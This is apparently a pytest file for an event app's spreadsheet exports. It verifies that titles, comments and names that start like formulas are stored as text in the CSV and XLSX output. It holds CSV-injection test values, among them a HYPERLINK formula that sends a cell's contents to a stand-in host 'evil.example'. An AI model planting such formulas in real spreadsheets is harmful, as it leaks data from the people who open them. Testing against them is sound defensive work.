"""13.6 and 14.6: every CSV and XLSX the app writes goes through eventhub.spreadsheets – text that a
spreadsheet would run as a formula is neutralized and stored as text; numbers are numbers, dates real dates.

The workbooks are read back with openpyxl: no cell may be a formula (`data_type == "f"`), text cells are
string cells, and dates come back as dates (`is_date`) at the event's local time.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from eventhub import spreadsheets
from eventhub.accounts.models import User
from eventhub.contests import assigning, judging
from eventhub.contests.models import Assignment, Score
from eventhub.extensions import db as _db
from eventhub.registration import catalog
from eventhub.registration.models import Registration
from tests.contests.factories import make_contest, make_entry, make_judges
from tests.factories import login, make_type, make_user, open_event, register

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?d="&D2,"Open deck")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cells(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _no_formulas(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    formulas = [(c.coordinate, c.value) for c in _cells(workbook) if c.data_type == "f"]
    assert formulas == []
    for cell in _cells(workbook):
        if isinstance(cell.value, str):
            assert cell.data_type == "s"
            assert not cell.value.startswith(FORMULA_STARTS) or spreadsheets._PLAIN_NUMBER.match(cell.value)
    return workbook


# --- the attack: the contest's scores workbook ------------------------------------------------------

@pytest.fixture
def judged(db):
    contest = make_contest(submission_deadline=None, judges_per_entry=2,
                           criteria=[{"key": "team", "name": "=1+2", "weight": 2, "max_score": 10},
                                     {"key": "market", "name": "Thị trường", "weight": 1, "max_score": 5}])
    hostile = make_entry(contest, title=HOSTILE_TITLE, organization="@SUM(A1:A9)")
    make_entry(contest, title="Lúa Việt")
    make_judges(contest, 2)
    assigning.run_assignment(contest)
    for a in _db.session.scalars(_db.select(Assignment).order_by(Assignment.id)).all():
        judging.save_scores(a.entry, a.user, {"team": 7, "market": 2.5},
                            comment="=1+1" if a.entry_id == hostile.id else "Tốt")
    return contest, hostile


def test_scores_xlsx_keeps_titles_and_comments_as_text(client, db, judged):
    contest, hostile = judged
    login(client, make_user("organizer"))
    response = client.get(f"/contests/{contest.id}/scores.xlsx?lang=en")
    assert response.status_code == 200
    workbook = _no_formulas(response.data)  # before the fix: the title, comment and criterion were formulas
    sheet = workbook.worksheets[0]
    header = [c.value for c in sheet[1]]
    assert header[:6] == ["Entry", "Title", "Judge", "E-mail", "Status", "Rubric version"]
    assert "'=1+2 (/10, ×2)" in header  # an organizer's criterion name is text too
    rows = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)]
    mine = [r for r in rows if r["Entry"] == hostile.id]
    assert len(mine) == 2
    assert {r["Title"] for r in mine} == {"'" + HOSTILE_TITLE}
    assert {r["Comment"] for r in mine} == {"'=1+1"}
    results = workbook.worksheets[1]
    titles = {row[2] for row in results.iter_rows(min_row=2, values_only=True)}
    assert "'" + HOSTILE_TITLE in titles and "Lúa Việt" in titles


def test_scores_xlsx_cells_are_typed(client, db, judged):
    contest, _hostile = judged
    judges = {u.email: u.id for u in _db.session.scalars(_db.select(User))}
    login(client, make_user("organizer"))
    workbook = load_workbook(io.BytesIO(client.get(f"/contests/{contest.id}/scores.xlsx?lang=en").data))
    sheet = workbook.worksheets[0]
    header = [c.value for c in sheet[1]]
    assert all(c.font.b for c in sheet[1])
    for row in sheet.iter_rows(min_row=2):
        by = dict(zip(header, row, strict=True))
        assert by["Entry"].data_type == "n" and isinstance(by["Entry"].value, int)
        assert by["'=1+2 (/10, ×2)"].value == 7 and by["Thị trường (/5, ×1)"].value == 2.5
        assert by["Total"].data_type == "n" and by["Total"].value == pytest.approx(100 * (2 * 0.7 + 0.5) / 3)
        assert by["Status"].value == "Submitted"
        submitted = by["Submitted at"]
        score = _db.session.scalars(_db.select(Score).filter_by(entry_id=by["Entry"].value,
                                                                  user_id=judges[by["E-mail"].value])).one()
        local = score.submitted_at.astimezone(contest.event.tz).replace(tzinfo=None)  # the event's clock
        assert submitted.is_date and abs((submitted.value - local).total_seconds()) < 1
    results = workbook.worksheets[1]
    for rank, entry_id, _title, raw_mean, *_rest in results.iter_rows(min_row=2, values_only=True):
        assert isinstance(rank, int) and isinstance(entry_id, int) and isinstance(raw_mean, float)


def test_floor_xlsx_keeps_titles_organizations_and_judges_as_text(client, db):
    """A pairwise contest's workbook (issue 20): "Xếp hạng", "Phiếu so sánh", "Giám khảo"."""
    from tests.contests.floor_world import pairwise_world, walk

    contest, made, panel = pairwise_world(entries=3, judges=1)
    made[0].title, made[1].organization, panel[0].full_name = HOSTILE_TITLE, "@SUM(A1:A9)", "+Giám khảo"
    _db.session.commit()
    walk(contest, panel[0], 3)
    login(client, make_user("organizer"))
    workbook = _no_formulas(client.get(f"/contests/{contest.id}/scores.xlsx").data)
    assert workbook.sheetnames == ["Xếp hạng", "Phiếu so sánh", "Giám khảo"]
    texts = {c.value for c in _cells(workbook) if isinstance(c.value, str)}
    assert {"'" + HOSTILE_TITLE, "'@SUM(A1:A9)", "'+Giám khảo"} <= texts


def test_scores_xlsx_speaks_vietnamese_by_default(client, db, judged):
    contest, _hostile = judged
    login(client, make_user("organizer"))
    workbook = load_workbook(io.BytesIO(client.get(f"/contests/{contest.id}/scores.xlsx").data))
    assert workbook.sheetnames == ["Điểm", "Kết quả"]
    header = [c.value for c in workbook.worksheets[0][1]]
    assert header[4] == "Trạng thái" and header[-1] == "Thời điểm gửi"
    assert {c.value for c in workbook.worksheets[0]["E"][1:]} == {"Đã gửi"}


# --- registrations ----------------------------------------------------------------------------------

def test_registrations_xlsx_is_typed_and_labelled_while_the_csv_keeps_codes(client, db):
    event = open_event()
    rtype = make_type(event, code="visitor", name="Khách tham quan")
    catalog.add_question(rtype, key="team_size", label="Số người trong nhóm", kind="number")
    catalog.add_question(rtype, key="idea", label="=Ý tưởng", kind="short_text")
    _db.session.commit()
    reg, _token = register(event, rtype, full_name="Nguyễn Thị Quý Trúc", organization="+Sao Việt",
                           phone="+84912345678", answers={"team_size": "4", "idea": "-1+2"})
    created = _db.session.get(Registration, reg.id).created_at
    login(client, make_user("organizer"))

    data = client.get(f"/events/{event.slug}/registrations.xlsx?lang=en").data
    sheet = _no_formulas(data).active
    header = [c.value for c in sheet[1]]
    assert header == ["Registration no.", "Status", "Registration type", "Full name", "E-mail", "Phone",
                      "Organization", "Sessions", "Ticket code", "Registered at", "Số người trong nhóm",
                      "'=Ý tưởng"]
    row = dict(zip(header, sheet[2], strict=True))
    assert row["Registration no."].value == reg.id and row["Registration no."].data_type == "n"
    assert (row["Status"].value, row["Registration type"].value) == ("Confirmed", "Khách tham quan")
    assert row["Organization"].value == "'+Sao Việt"
    assert row["Phone"].value == "0912 345 678" and row["Phone"].data_type == "s"  # as people write it
    assert row["Số người trong nhóm"].value == 4 and row["Số người trong nhóm"].data_type == "n"
    assert row["'=Ý tưởng"].value == "'-1+2"
    at = row["Registered at"]
    assert at.is_date and at.number_format == spreadsheets.DATETIME_FORMAT
    local = created.astimezone(event.tz).replace(tzinfo=None)
    assert abs((at.value - local).total_seconds()) < 1  # the event's wall clock, not UTC

    text = client.get(f"/events/{event.slug}/registrations.csv").data.decode("utf-8-sig")
    [record] = list(csv.DictReader(io.StringIO(text)))
    assert record["status"] == "confirmed" and record["type"] == "visitor"
    assert record["organization"] == "'+Sao Việt" and record["'=Ý tưởng"] == "'-1+2"
    assert record["Số người trong nhóm"] == "4"
    assert record["created_at"] == local.strftime("%d/%m/%Y %H:%M")


# --- the report's workbook --------------------------------------------------------------------------

def test_the_series_report_dates_are_dates(client, db):
    event = open_event(name="=Ngày hội")
    login(client, make_user("organizer"))
    response = client.get(f"/reports/series.xlsx?year={event.starts_at.year}")
    workbook = _no_formulas(response.data)
    rows = list(workbook["Sự kiện"].iter_rows(min_row=2))
    [row] = [r for r in rows if r[0].value == event.slug]
    assert row[1].value == "'=Ngày hội"
    assert row[2].is_date and row[2].value == event.starts_at.astimezone(event.tz).replace(tzinfo=None)
    assert row[3].is_date and row[3].value == event.ends_at.astimezone(event.tz).replace(tzinfo=None)


# --- the floor plan's CSV: written neutralized, read back as it was ---------------------------------

def test_the_floor_plan_csv_round_trips_hostile_names(db):
    from eventhub.booths import floorplan

    class Zone:
        code, name, sector, x, y, w, h = "A", "=HYPERLINK(\"http://evil\")", "@agri", 0, 0, 10, 10

    text = floorplan.plan_as_csv([Zone], [])
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["name"] == "'=HYPERLINK(\"http://evil\")" and row["sector"] == "'@agri"
    [zone] = floorplan.parse_csv(text)["zones"]
    assert (zone["name"], zone["sector"]) == (Zone.name, Zone.sector)


# --- the writer itself, over random and hostile text (Hypothesis) -------------------------------------

hostile_text = st.one_of(
    st.text(max_size=40),
    st.builds(lambda start, rest: start + rest, st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''="]),
              st.text(max_size=30)),
    st.sampled_from(["+84912345678", "-12", "-1.5", "=1+1", "@SUM(A1)", "'=x", "''", "=\x00", "\x1b[31m"]),
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(hostile_text, min_size=1, max_size=6))
def test_no_text_ever_becomes_a_formula(values):
    typed = [1, 2.5, None, datetime(2026, 1, 2, 3, 4)]
    data = spreadsheets.xlsx_bytes("=x", ["a"] * len(values), [values, typed])
    sheet = _no_formulas(data).active
    [row] = sheet.iter_rows(min_row=2, max_row=2, max_col=len(values))
    for cell, value in zip(row, values, strict=True):
        expected = spreadsheets._text(spreadsheets.neutralize(value))
        expected = expected.replace("\r\n", "\n").replace("\r", "\n")  # XML reads every line end as \n
        assert cell.value == (expected or None)  # openpyxl reads an empty string cell back as None
    assert [c.value for c in sheet[3]][:4] == typed and sheet["D3"].is_date

    text = spreadsheets.csv_text(["h"] * len(values), [values])
    [row] = list(csv.reader(io.StringIO(text, newline="")))[1:]
    for written, value in zip(row, values, strict=True):
        assert not written.startswith(FORMULA_STARTS) or spreadsheets._PLAIN_NUMBER.match(written)
        assert spreadsheets.unneutralize(written) == value


def test_every_spreadsheet_is_written_by_the_one_writer():
    """No module but eventhub/spreadsheets.py makes a CSV writer or a workbook (so none can skip it)."""
    from pathlib import Path

    import eventhub

    root = Path(eventhub.__file__).parent
    writers = ("csv.writer", "csv.DictWriter", "Workbook(", "openpyxl.Workbook")
    offenders = [f"{path.relative_to(root)}: {needle}" for path in root.rglob("*.py")
                 if path.name != "spreadsheets.py"
                 for needle in writers if needle in path.read_text(encoding="utf-8")]
    assert offenders == []


# --- XLSX for people (issue 16.3): words, phones as typed, real dates, a table to sort and filter ------

def _table_is_laid_out(sheet, top: int = 1) -> None:
    """The header row is frozen, the filter covers the whole table, every column is fitted."""
    last = sheet.cell(top, sheet.max_column).column_letter
    assert sheet.freeze_panes == f"A{top + 1}"
    assert sheet.auto_filter.ref == f"A{top}:{last}{sheet.max_row}"
    for column in range(1, sheet.max_column + 1):
        width = sheet.column_dimensions[sheet.cell(top, column).column_letter].width
        assert spreadsheets.MIN_WIDTH <= width <= spreadsheets.MAX_WIDTH


@pytest.fixture
def registered(db):
    event = open_event()
    rtype = make_type(event, code="visitor", name="Khách tham quan")
    catalog.add_question(rtype, key="lunch", label="Ăn trưa", kind="checkbox")
    _db.session.commit()
    reg, _token = register(event, rtype, full_name="Nguyễn Thị Quý Trúc", organization="=HYPERLINK(\"x\")",
                           phone="0912345678", answers={"lunch": True})
    return event, reg


def test_registrations_xlsx_for_people_in_vietnamese(client, registered):
    event, reg = registered
    login(client, make_user("organizer"))
    workbook = _no_formulas(client.get(f"/events/{event.slug}/registrations.xlsx").data)
    sheet = workbook.active
    assert sheet.title == "Đăng ký"
    header = [c.value for c in sheet[1]]
    assert header == ["Mã đăng ký", "Trạng thái", "Loại đăng ký", "Họ và tên", "Email", "Số điện thoại",
                      "Tổ chức/đơn vị", "Phiên hội thảo", "Mã vé", "Thời điểm đăng ký", "Ăn trưa"]
    row = dict(zip(header, sheet[2], strict=True))
    assert row["Trạng thái"].value == "Đã xác nhận" and row["Loại đăng ký"].value == "Khách tham quan"
    assert row["Số điện thoại"].value == "0912 345 678"
    assert row["Ăn trưa"].value == "Có"
    assert row["Tổ chức/đơn vị"].value == "'=HYPERLINK(\"x\")" and row["Tổ chức/đơn vị"].data_type == "s"
    at = row["Thời điểm đăng ký"]
    assert isinstance(at.value, datetime) and at.number_format == "dd/mm/yyyy hh:mm"
    created = _db.session.get(Registration, reg.id).created_at
    assert abs((at.value - created.astimezone(event.tz).replace(tzinfo=None)).total_seconds()) < 1
    assert isinstance(row["Mã đăng ký"].value, int)
    _table_is_laid_out(sheet)
    assert sheet.auto_filter.ref == "A1:K2"
    # fitted: the name column is wider than the registration number's, both within bounds
    assert sheet.column_dimensions["D"].width > sheet.column_dimensions["A"].width


def test_registrations_xlsx_speaks_english_when_asked_or_when_the_account_does(client, registered):
    event, _reg = registered
    organizer = make_user("organizer")
    login(client, organizer)
    for url in (f"/events/{event.slug}/registrations.xlsx?lang=en", None):
        if url is None:  # the account's own language, as the pages
            with client.session_transaction() as session:
                session.pop("lang", None)
            organizer.locale = "en"
            _db.session.commit()
            url = f"/events/{event.slug}/registrations.xlsx"
        sheet = load_workbook(io.BytesIO(client.get(url).data)).active
        header = [c.value for c in sheet[1]]
        assert header[:6] == ["Registration no.", "Status", "Registration type", "Full name", "E-mail",
                              "Phone"]
        row = dict(zip(header, (c.value for c in sheet[2]), strict=True))
        assert (row["Status"], row["Phone"], row["Ăn trưa"]) == ("Confirmed", "0912 345 678", "Yes")


def test_the_csv_keeps_codes_and_e164_while_the_page_says_which_is_which(client, registered):
    event, _reg = registered
    login(client, make_user("organizer"))
    text = client.get(f"/events/{event.slug}/registrations.csv").data.decode("utf-8-sig")
    [record] = list(csv.DictReader(io.StringIO(text)))
    assert list(record)[:10] == ["id", "status", "type", "full_name", "email", "phone", "organization",
                                 "sessions", "ticket_code", "created_at"]
    assert (record["status"], record["type"], record["phone"], record["Ăn trưa"]) == (
        "confirmed", "visitor", "+84912345678", "x")
    page = client.get(f"/events/{event.slug}/registrations").get_data(as_text=True)
    assert "CSV: cho các chương trình khác, giữ nguyên mã. Excel: cho người đọc" in page


def test_scores_xlsx_sheets_are_tables(client, db, judged):
    contest, _hostile = judged
    login(client, make_user("organizer"))
    workbook = load_workbook(io.BytesIO(client.get(f"/contests/{contest.id}/scores.xlsx").data))
    scores, results = workbook.worksheets
    _table_is_laid_out(scores)
    _table_is_laid_out(results)
    assert scores.auto_filter.ref == f"A1:{scores.cell(1, scores.max_column).column_letter}5"  # 2 entries × 2
    header = [c.value for c in scores[1]]
    submitted = scores.cell(2, header.index("Thời điểm gửi") + 1)
    assert isinstance(submitted.value, datetime) and submitted.number_format == "dd/mm/yyyy hh:mm"
    total = scores.cell(2, header.index("Tổng") + 1)
    assert isinstance(total.value, float) and total.number_format == "0.00"


def test_report_xlsx_sheets_are_tables_in_the_readers_language(db):
    from eventhub.reports import services
    from eventhub.reports.xlsx import render_report_xlsx

    event = open_event(name="Ngày hội Khởi nghiệp")
    register(event, make_type(event), phone="0912345678")
    report = services.event_report(event)
    vietnamese = load_workbook(io.BytesIO(render_report_xlsx(report)))
    english = load_workbook(io.BytesIO(render_report_xlsx(report, "en")))
    assert vietnamese.sheetnames[:3] == ["Số liệu", "Lượt đến", "Lượt đăng ký theo ngày"]
    assert english.sheetnames == ["Figures", "Arrivals", "Registrations per day", "Session attendance",
                                  "Entries per contest", "Meeting outcomes", "Attendance and no-shows"]
    figures = vietnamese.worksheets[0]
    assert [c.value for c in figures[1]] == ["figure", "Chỉ tiêu", "Tổng"]  # the key column: a code
    assert figures.column_dimensions["A"].hidden  # api.md's keys, for programs; people read the labels
    assert figures["B2"].value == "Đăng ký" and figures["C2"].value == 1
    _table_is_laid_out(figures)
    per_day = vietnamese["Lượt đăng ký theo ngày"]
    _table_is_laid_out(per_day, top=2)  # under the chart's title
    assert [c.value for c in per_day[2]] == ["Ngày", "Đăng ký"]
    assert per_day["A3"].is_date and per_day["A3"].number_format == "dd/mm/yyyy"


def test_the_writer_fits_widths_within_bounds_and_keeps_foreign_phones_readable(app):
    with app.test_request_context("/?lang=en"):
        data = spreadsheets.people_xlsx("t", ["A", "Long"], [
            [spreadsheets.phone("+442079460958"), "x" * 500], [spreadsheets.phone(None), "=1+1\nshort"]])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == "+44 20 7946 0958"  # a phone, not a formula: no quote
    assert sheet["A3"].value is None and sheet["B3"].value == "'=1+1\nshort"
    assert sheet.column_dimensions["B"].width == spreadsheets.MAX_WIDTH
    assert sheet.column_dimensions["A"].width == len("+44 20 7946 0958") + 1
    assert spreadsheets.neutralize("+1 202-555-0123", written_numbers=True) == "+1 202-555-0123"
    assert spreadsheets.neutralize("+1 2+3", written_numbers=True) == "'+1 2+3"
    assert spreadsheets.neutralize("-1 2", written_numbers=True) == "'-1 2"


def test_only_the_xlsx_for_people_lets_a_phone_written_abroad_pass_the_csv_keeps_api_mds_rule(app):
    # api.md: in the CSV only plain numbers such as +84912345678 go unquoted.
    values = ["+1 202-555-0123", "+44 20 7946 0958", "+84912345678", "-12", "=1+1"]
    rows = list(csv.reader(io.StringIO(spreadsheets.csv_text(None, [values]))))
    assert rows == [["'+1 202-555-0123", "'+44 20 7946 0958", "+84912345678", "-12", "'=1+1"]]
    assert [spreadsheets.unneutralize(v) for v in rows[0]] == values
    with app.test_request_context("/?lang=en"):
        data = spreadsheets.people_xlsx("t", ["Phone"], [[v] for v in values])
    people = [c.value for c in load_workbook(io.BytesIO(data)).active["A"]][1:]
    assert people == ["+1 202-555-0123", "+44 20 7946 0958", "+84912345678", "-12", "'=1+1"]
    plain = spreadsheets.xlsx_bytes("t", ["Phone"], [[v] for v in values])  # as it is, for programs
    assert [c.value for c in load_workbook(io.BytesIO(plain)).active["A"]][1:] == rows[0]
